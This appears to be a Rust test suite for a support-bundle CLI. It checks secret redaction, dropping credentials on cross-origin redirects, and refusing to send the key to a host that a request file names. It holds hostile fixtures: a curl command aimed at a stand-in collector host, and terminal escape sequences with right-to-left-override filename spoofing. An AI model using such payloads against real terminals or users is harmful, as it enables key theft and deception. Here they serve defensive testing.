//! Nothing secret leaves, nothing hostile gets through, no evidence is lost (issue 20): one masking pass for
//! the whole bundle, minimal redaction, credentials that stay with their host, a terminal that only shows
//! text. Every server here is a fault server on 127.0.0.1 that the test starts and stops.

use serde_json::json;

use super::fault::{response, FaultServer};
use super::util;

/// A production-looking key that only these tests use.
const KEY: &str = "Vb6Nm5Qw4Er3Ty2Ui1Op0As9Df8Gh7Jk6Lz5Xc4V";

fn chat() -> serde_json::Value {
    json!({"model": "command-r-08-2024", "messages": [{"role": "user", "content": "hi"}]})
}

/// A server that answers every request with a 400 error naming `message`.
fn failing(message: &str) -> FaultServer {
    let body = json!({"id": "a1b2c3d4", "message": message}).to_string();
    FaultServer::fixed(response(
        "400 Bad Request",
        &[
            ("content-type", "application/json"),
            ("x-debug-trace-id", "a1b2c3d4"),
        ],
        &body,
    ))
}

/// Every member of the zip as text, with its name.
fn texts(zip: &std::path::Path) -> Vec<(String, String)> {
    util::members(zip)
        .into_iter()
        .map(|(n, b)| (n, String::from_utf8_lossy(&b).into_owned()))
        .collect()
}

#[test]
fn form_credentials_are_masked_in_every_member() {
    let server = failing("invalid dataset");
    let d = util::tempdir();
    let data = util::write(d.path(), "data.jsonl", "{\"text\": \"hello\"}\n");
    let (api_key, password, client_secret) = (
        "Fz8Kq2Lm9Xp4Tn7Rw1VbZc3",
        "Tr0ub4dor-and-3",
        "cs_Qm3xT8vR2pL6nW9kZ4yB7cD1",
    );
    let cmd = format!(
        "curl -X POST '{}/v1/datasets?name=d&type=embed-input' -F name=d -F api_key={api_key} -F password={password} -F client_secret={client_secret} -F 'data=@{}'",
        server.base_url(),
        data.display()
    );
    let req = util::write(d.path(), "curl.txt", cmd);
    let run = util::cli(d.path())
        .env("CO_API_KEY", KEY)
        .arg("replay")
        .arg(&req)
        .args(["--out", "b.zip", "--json"])
        .run()
        .success();
    // The upload went out with its fields: they are the user's to send.
    let sent = String::from_utf8_lossy(&server.requests()[0]).into_owned();
    assert!(sent.contains(password), "{sent}");
    let zip = d.path().join("b.zip");
    for (name, text) in texts(&zip) {
        for s in [api_key, password, client_secret, KEY] {
            assert!(!text.contains(s), "{name} keeps {s}:\n{text}");
        }
    }
    // The exchange's multipart body and the request hold the same placeholder for each value.
    let request = util::member(&zip, "request.json");
    let exchange = util::member(&zip, "exchanges/001.json");
    let redactions: serde_json::Value =
        serde_json::from_str(&util::member(&zip, "redactions.json")).unwrap();
    let total: u64 = redactions["members"]
        .as_object()
        .unwrap()
        .values()
        .flat_map(|m| m.as_object().unwrap().values())
        .map(|c| c["count"].as_u64().unwrap())
        .sum();
    assert_eq!(run.json()["redactions"].as_u64(), Some(total));
    let placeholders = |t: &str| {
        let mut v: Vec<String> = t
            .match_indices("[REDACTED:")
            .map(|(i, _)| t[i..i + t[i..].find(']').unwrap() + 1].to_string())
            .filter(|p| !p.contains("cohere-key"))
            .collect();
        v.sort();
        v.dedup();
        v
    };
    assert_eq!(placeholders(&request).len(), 3, "{request}");
    assert_eq!(
        placeholders(&request),
        placeholders(&exchange),
        "{exchange}"
    );
}

#[test]
fn one_key_has_one_placeholder_across_headers_body_and_logs() {
    let server = failing("invalid api token");
    let d = util::tempdir();
    let mut body = chat();
    body["messages"][0]["content"] = json!(format!("debug: my key is {KEY}"));
    let req = util::write(
        d.path(),
        "req.json",
        util::envelope(
            &server.base_url(),
            "/v2/chat",
            &[("Authorization", &format!("Bearer {KEY}"))],
            &body,
        ),
    );
    let log = util::write(
        d.path(),
        "app.log",
        format!("POST /v2/chat Authorization: Bearer {KEY} status=401 x-debug-trace-id=a1b2c3d4\n"),
    );
    util::cli(d.path())
        .arg("replay")
        .arg(&req)
        .arg("--log")
        .arg(&log)
        .args(["--out", "b.zip"])
        .run()
        .success();
    let zip = d.path().join("b.zip");
    let mut seen = std::collections::BTreeSet::new();
    for (name, text) in texts(&zip) {
        assert!(!text.contains(KEY), "{name} keeps the key");
        for (i, _) in text.match_indices("[REDACTED:") {
            seen.insert(text[i..i + text[i..].find(']').unwrap() + 1].to_string());
        }
    }
    assert_eq!(
        seen.into_iter().collect::<Vec<_>>(),
        ["[REDACTED:cohere-key:1]"]
    );
    let exchange = util::member(&zip, "exchanges/001.json");
    assert!(
        exchange.contains("Bearer [REDACTED:cohere-key:1]"),
        "{exchange}"
    );
    // The evidence beside the key in the log stays.
    let log = util::member(&zip, "logs/app.log");
    assert!(
        log.contains("status=401 x-debug-trace-id=a1b2c3d4"),
        "{log}"
    );
}

#[tokio::test]
async fn masking_at_record_time_is_counted() {
    use cohere_bundle_core::exchange::{
        Body, Exchange, Failure, FailureClass, Header, Purpose, RecordedRequest, RecordedResponse,
        Timings,
    };
    use cohere_bundle_core::gather::observe::Recording;
    use cohere_bundle_core::pipeline::{observed_capture, write_support_bundle, BundleOptions};
    let failed = Exchange {
        index: 1,
        purpose: Purpose::Observed,
        request: RecordedRequest {
            method: "POST".into(),
            url: "http://127.0.0.1:9/v2/chat".into(),
            headers: vec![Header::new("Authorization", format!("Bearer {KEY}"))],
            body: Body::from_text(r#"{"model":"command-r","messages":[]}"#),
        },
        response: Some(RecordedResponse {
            status: 404,
            headers: vec![],
            body: Body::from_text(r#"{"message":"model 'command-r' not found"}"#),
        }),
        timings: Timings::default(),
        failure: Some(Failure::new(
            FailureClass::Http,
            "model 'command-r' not found",
        )),
        retry_group: None,
    };
    let recording = Recording {
        exchanges: vec![failed],
        stats: Default::default(),
    };
    let capture = observed_capture(recording, "http://127.0.0.1:9").unwrap();
    let d = util::tempdir();
    let bo = BundleOptions::new()
        .output(d.path().join("b.zip"))
        .max_size(None);
    let outcome = write_support_bundle(capture, &bo).await.unwrap();
    assert!(outcome.redactions >= 2, "{}", outcome.redactions);
    let redactions = util::member(&outcome.path, "redactions.json");
    assert!(redactions.contains("request.json"), "{redactions}");
    assert!(redactions.contains("exchanges/001.json"), "{redactions}");
}

/// Lines that hold a secret (`{S}`) and then evidence: status, request ids, latency, JSON fields, closing
/// brackets.
const COLLATERAL: &[&str] = &[
    "Authorization: Bearer {S} status=500 x-debug-trace-id=a1b2c3",
    "(Authorization: Bearer {S})",
    "Authorization=Bearer {S};x-request-id=5f1c9a latency_ms=812",
    "headers: authorization: Bearer {S}, x-request-id: 5f1c9a, status: 429",
    "{\"authorization\": \"Bearer {S}\", \"status\": 500, \"request_id\": \"5f1c9a\"}",
    "[req 5f1c9a] X-Api-Key: {S} took 812ms]",
    "api_key={S}&model=command-r status=400",
    "POST /v2/chat token={S} -> 401 in 812ms (x-debug-trace-id: a1b2c3)",
    "Cookie: {S} status=500",
];

/// `text` with every placeholder written `{S}`.
fn placeholders_as_s(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(i) = rest.find("[REDACTED:") {
        out.push_str(&rest[..i]);
        out.push_str("{S}");
        rest = &rest[i + rest[i..].find(']').unwrap() + 1..];
    }
    out + rest
}

#[test]
fn redaction_takes_the_secret_and_keeps_the_evidence() {
    use cohere_bundle_core::scrub::{ScrubOptions, Scrubber};
    let s = "Qm3xT8vR2pL6nW9kZ4yB";
    let known = vec![cohere_bundle_core::KnownSecret::new("cohere-key", s)];
    for options in [ScrubOptions::default(), ScrubOptions::with_known(known)] {
        for line in COLLATERAL {
            let text = line.replace("{S}", s);
            let out = Scrubber::new(options.clone()).scrub_str("app.log", &text);
            assert_eq!(&placeholders_as_s(&out), line, "{text} became {out}");
        }
    }
}

/// A server that answers with a redirect to `to`, and one at `to` that fails: where every header went.
#[test]
fn a_redirect_to_another_origin_drops_every_credential_header() {
    let other = failing("model not found");
    let target = format!("{}/v2/chat", other.base_url());
    let first = FaultServer::fixed(response(
        "307 Temporary Redirect",
        &[("location", &target), ("content-length", "0")],
        "",
    ));
    let d = util::tempdir();
    let credentials = [
        ("api-key", "azure-Kq2Lm9Xp4Tn7Rw1Vb"),
        ("x-api-key", "xak-Lm9Xp4Tn7Rw1VbZc3"),
        ("Ocp-Apim-Subscription-Key", "apim-9Xp4Tn7Rw1VbZc3Fz"),
        ("X-Amz-Security-Token", "amz-Tn7Rw1VbZc3Fz8Kq2"),
        ("X-Internal-Token", "internal-VbZc3Fz8Kq2Lm9X"),
    ];
    let headers: Vec<(&str, &str)> = credentials
        .iter()
        .copied()
        .chain([
            ("X-Trace", "keep-me"),
            ("Cookie", "session=cookie-Rw1VbZc3Fz8Kq2Lm"),
        ])
        .collect();
    let req = util::write(
        d.path(),
        "req.json",
        util::envelope(&first.base_url(), "/v2/chat", &headers, &chat()),
    );
    util::cli(d.path())
        .env("CO_API_KEY", KEY)
        .arg("replay")
        .arg(&req)
        .args(["--out", "b.zip", "--secret-header", "X-Internal-Token"])
        .run()
        .success();
    let at_first = String::from_utf8_lossy(&first.requests()[0]).to_ascii_lowercase();
    let at_other = String::from_utf8_lossy(&other.requests()[0]).to_ascii_lowercase();
    for (name, value) in credentials {
        assert!(
            at_first.contains(&value.to_ascii_lowercase()),
            "{name} not sent to the request's host"
        );
        assert!(
            !at_other.contains(&value.to_ascii_lowercase()),
            "{name} followed the redirect:\n{at_other}"
        );
    }
    assert!(
        !at_other.contains("authorization") && !at_other.contains("cookie"),
        "{at_other}"
    );
    assert!(at_other.contains("x-trace: keep-me") && at_other.contains("command-r-08-2024"));
    // The headers named secret are masked in the bundle like the others.
    for (name, text) in texts(&d.path().join("b.zip")) {
        for (_, v) in credentials {
            assert!(!text.contains(v), "{name} keeps {v}");
        }
    }
}

#[test]
fn a_file_cannot_send_the_key_to_a_host_it_names() {
    let d = util::tempdir();
    let cmd = format!(
        "curl https://collector.example.net/v2/chat -H 'Content-Type: application/json' -d '{}'",
        chat()
    );
    let req = util::write(d.path(), "curl.txt", cmd);
    util::cli(d.path())
        .env("CO_API_KEY", KEY)
        .arg("replay")
        .arg(&req)
        .args(["--out", "b.zip"])
        .run()
        .fails(
            2,
            &[
                "collector.example.net",
                "--allow-host collector.example.net",
                "--base-url https://collector.example.net",
            ],
        );
    assert!(!d.path().join("b.zip").exists());
    // Allowed, it goes there (through a proxy on 127.0.0.1 that stands in for the host).
    let proxy = failing("unknown model");
    let cmd = format!(
        "curl http://collector.example.net/v2/chat -H 'Content-Type: application/json' -d '{}'",
        chat()
    );
    let req = util::write(d.path(), "curl2.txt", cmd);
    util::cli(d.path())
        .env("CO_API_KEY", KEY)
        .env("HTTP_PROXY", proxy.base_url())
        .env("http_proxy", proxy.base_url())
        .arg("replay")
        .arg(&req)
        .args(["--out", "b.zip", "--allow-host", "collector.example.net"])
        .run()
        .success();
    let sent = String::from_utf8_lossy(&proxy.requests()[0]).into_owned();
    assert!(
        sent.contains("collector.example.net") && sent.contains(KEY),
        "{sent}"
    );
}

/// What a hostile server's text must not carry to a terminal.
fn assert_inert(what: &str, text: &str) {
    for c in ['\u{1b}', '\u{7}', '\r', '\u{9b}', '\u{202e}', '\u{2067}'] {
        assert!(!text.contains(c), "{what} carries {c:?}: {text:?}");
    }
}

#[test]
fn escape_sequences_from_a_server_are_shown_not_obeyed() {
    let message =
        "bad key\u{1b}]0;pwned\u{7}\u{1b}[2J\rSupport is not needed\u{9b}31m \u{202e}gpj.exe";
    let body = json!({"id": "id\u{1b}[8m\u{2067}", "message": message}).to_string();
    let server = FaultServer::fixed(response(
        "400 Bad Request",
        &[("content-type", "application/json")],
        &body,
    ));
    let d = util::tempdir();
    let req = util::write(
        d.path(),
        "req.json",
        util::envelope(&server.base_url(), "/v2/chat", &[], &chat()),
    );
    for json_flag in [false, true] {
        let mut cli = util::cli(d.path())
            .env("CO_API_KEY", KEY)
            .arg("replay")
            .arg(&req)
            .args(["--out", "b.zip", "--force"]);
        if json_flag {
            cli = cli.arg("--json");
        }
        let run = cli.run().success();
        assert_inert("stdout", &run.stdout);
        assert_inert("stderr", &run.stderr);
        if json_flag {
            // JSON's own escapes: the values read back as the server sent them.
            let v = run.json();
            assert!(
                run.stdout.contains("\\u001b") && run.stdout.contains("\\u202e"),
                "{}",
                run.stdout
            );
            assert_eq!(v["error"]["message"].as_str(), Some(message), "{v}");
        } else {
            assert!(
                run.stdout.contains("\\x1b]0;pwned\\x07") && run.stdout.contains("\\u202e"),
                "{}",
                run.stdout
            );
        }
    }
    let report = util::member(&d.path().join("b.zip"), "report.md");
    assert_inert("report.md", &report);
    assert!(report.contains("\\x1b[2J\\rSupport"), "{report}");
}

#[test]
fn verify_shows_a_hostile_member_name_as_text() {
    use super::hostile_zips::{self as hz, Body, Manifest};
    let d = util::tempdir();
    let zip = d.path().join("x.zip");
    let mut members = hz::minimal();
    let evil = "logs/a\u{1b}]0;pwned\u{7}\u{1b}[2J\u{202e}gol.txt";
    members.push((evil, Body::text(&format!("key {KEY}\n"))));
    hz::write_zip(&zip, &members, Manifest::Listing);
    for json_flag in [false, true] {
        let mut cli = util::cli(d.path())
            .arg("verify")
            .arg(&zip)
            .args(["--secret", KEY]);
        if json_flag {
            cli = cli.arg("--json");
        }
        let run = cli.run();
        assert_eq!(run.code, 3, "{run:?}");
        assert_inert("stderr", &run.stderr);
        assert_inert("stdout", &run.stdout);
        assert!(
            run.stderr
                .contains("\\x1b]0;pwned\\x07\\x1b[2J\\u202egol.txt"),
            "{}",
            run.stderr
        );
        assert!(!run.stderr.contains(KEY) && !run.stdout.contains(KEY));
    }
}

/// Ctrl-C to the process group of `observe -- COMMAND` while the command runs: the command is stopped, the
/// failure it made is bundled, the preload directory is gone, and the exit code is 130.
#[cfg(unix)]
#[test]
fn ctrl_c_under_observe_bundles_what_was_recorded() {
    use std::os::unix::process::CommandExt;
    use std::time::{Duration, Instant};
    let upstream = failing("model 'command-z' not found");
    let d = util::tempdir();
    let tmp = d.path().join("tmp");
    std::fs::create_dir(&tmp).unwrap();
    let script = r#"
import json, os, sys, time, urllib.request
req = urllib.request.Request(os.environ["CO_API_URL"] + "/v2/chat", method="POST",
    data=json.dumps({"model": "command-z", "messages": [{"role": "user", "content": "hi"}]}).encode(),
    headers={"content-type": "application/json", "authorization": "Bearer " + os.environ["APP_KEY"]})
try:
    urllib.request.urlopen(req)
except Exception as e:
    print("failed:", e, flush=True)
time.sleep(60)
"#;
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_cohere-bundle"))
        .current_dir(d.path())
        .env("TMPDIR", &tmp)
        .env("APP_KEY", KEY)
        // Set, it makes observe treat the command as a Node program: the preload directory is made.
        .env("NODE_OPTIONS", "--no-deprecation")
        .env("NO_PROXY", "127.0.0.1,localhost")
        .env_remove("CO_API_KEY")
        .env_remove("CO_API_URL")
        .args([
            "observe",
            "--upstream",
            &upstream.base_url(),
            "--out",
            "b.zip",
            "--",
        ])
        .args(["python3", "-c", script])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .process_group(0)
        .spawn()
        .unwrap();
    let t0 = Instant::now();
    while upstream.requests().is_empty() {
        assert!(
            t0.elapsed() < Duration::from_secs(30),
            "no request reached the upstream"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    // The recorded exchange ends when its response is relayed; then the preload directory exists.
    std::thread::sleep(Duration::from_millis(500));
    assert!(
        util::dir_listing(&tmp)
            .iter()
            .any(|n| n.contains("cohere-bundle-preload-")),
        "{:?}",
        util::dir_listing(&tmp)
    );
    // SAFETY: signals the process group of our own child.
    unsafe {
        libc::kill(-(child.id() as i32), libc::SIGINT);
    }
    let t1 = Instant::now();
    let out = loop {
        if let Some(_status) = child.try_wait().unwrap() {
            break child.wait_with_output().unwrap();
        }
        assert!(
            t1.elapsed() < Duration::from_secs(20),
            "observe did not stop"
        );
        std::thread::sleep(Duration::from_millis(50));
    };
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(130), "{stderr}");
    let zip = d.path().join("b.zip");
    assert!(zip.exists(), "{stderr}");
    assert_eq!(util::summary(&zip)["status"], 400, "{stderr}");
    assert!(!util::member(&zip, "exchanges/001.json").contains(KEY));
    assert_eq!(
        util::dir_listing(&tmp),
        Vec::<String>::new(),
        "left in TMPDIR"
    );
}

/// Logs as users have them: gzip (what logrotate leaves), zstd, UTF-16 (what PowerShell's `>` writes), each
/// with the key inside; and a log with a binary region, recorded under its own heading.
#[test]
fn compressed_and_utf16_logs_are_bundled_as_text() {
    use std::io::Write;
    let d = util::tempdir();
    let text = |tag: &str| {
        format!(
            "2026-12-06 INFO {tag} started\n2026-12-06 ERROR {tag} POST /v2/chat status=401 key={KEY} x-debug-trace-id=a1b2c3d4\n"
        )
    };
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(text("gzip").as_bytes()).unwrap();
    util::write(d.path(), "app.log.gz", gz.finish().unwrap());
    util::write(
        d.path(),
        "svc.log.zst",
        zstd::encode_all(text("zstd").as_bytes(), 3).unwrap(),
    );
    let mut utf16 = vec![0xff, 0xfe];
    utf16.extend(text("utf16").encode_utf16().flat_map(u16::to_le_bytes));
    util::write(d.path(), "ps.log", &utf16);
    // UTF-16 without a byte order mark, big-endian: told by its NUL bytes.
    let be: Vec<u8> = text("utf16be")
        .encode_utf16()
        .flat_map(u16::to_be_bytes)
        .collect();
    util::write(d.path(), "be.log", &be);
    let mut mixed = text("mixed").into_bytes();
    mixed.extend((0..5000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8));
    mixed.extend_from_slice(b"\n2026-12-06 ERROR after the binary part\n");
    util::write(d.path(), "mixed.log", &mixed);
    util::write(d.path(), "req.json", chat().to_string());
    let mut cli = util::cli(d.path())
        .args([
            "bundle",
            "--request",
            "req.json",
            "--status",
            "401",
            "--secret",
            KEY,
        ])
        .args(["--out", "b.zip", "--json"]);
    for l in ["app.log.gz", "svc.log.zst", "ps.log", "be.log", "mixed.log"] {
        cli = cli.args(["--log", l]);
    }
    let run = cli.run().success();
    let zip = d.path().join("b.zip");
    for (name, body) in util::members(&zip) {
        let t = String::from_utf8_lossy(&body);
        assert!(!t.contains(KEY), "{name} keeps the key");
    }
    for (member, tag) in [
        ("logs/app.log", "gzip"),
        ("logs/svc.log", "zstd"),
        ("logs/ps.log", "utf16"),
        ("logs/be.log", "utf16be"),
    ] {
        let log = util::member(&zip, member);
        assert!(
            log.contains(&format!(
                "ERROR {tag} POST /v2/chat status=401 key=[REDACTED:"
            )) && log.contains("x-debug-trace-id=a1b2c3d4"),
            "{member}: {log:?}"
        );
    }
    let report = util::member(&zip, "report.md");
    assert!(
        report.contains("decompressed from app.log.gz (gzip, "),
        "{report}"
    );
    assert!(
        report.contains("decompressed from svc.log.zst (zstd, "),
        "{report}"
    );
    assert!(
        report.contains("UTF-16LE text (byte order mark) converted to UTF-8"),
        "{report}"
    );
    assert!(
        report.contains("UTF-16BE text (NUL bytes at every other position)"),
        "{report}"
    );
    let (_, binary) = report
        .split_once("## Binary data left out")
        .expect("its own heading");
    assert!(binary.contains("`logs/mixed.log`"), "{report}");
    assert!(
        !run.json()["cuts"].to_string().contains("binary"),
        "{}",
        run.stdout
    );
    assert!(util::member(&zip, "logs/mixed.log").contains("ERROR after the binary part"));
}

/// A corrupt archive is one line and exit 2 or a bundle that says what broke; never a panic.
#[test]
fn a_corrupt_gzip_log_is_a_clear_error_or_a_noted_cut() {
    let d = util::tempdir();
    let mut bad = vec![0x1f, 0x8b, 0x08, 0x00];
    bad.extend_from_slice(b"not really deflate data at all, just bytes after a gzip magic");
    util::write(d.path(), "bad.log.gz", &bad);
    util::write(d.path(), "req.json", chat().to_string());
    let run = util::cli(d.path())
        .args([
            "bundle",
            "--request",
            "req.json",
            "--status",
            "500",
            "--log",
            "bad.log.gz",
        ])
        .args(["--out", "b.zip"])
        .run();
    if run.code == 0 {
        let report = util::member(&d.path().join("b.zip"), "report.md");
        assert!(report.contains("broke off"), "{report}");
    } else {
        assert_eq!(run.code, 2, "{run:?}");
        assert_eq!(run.stderr.trim_end().lines().count(), 1, "{run:?}");
        assert!(run.stderr.contains("bad.log.gz"), "{run:?}");
    }
    assert!(!run.stderr.contains("panicked"));
}
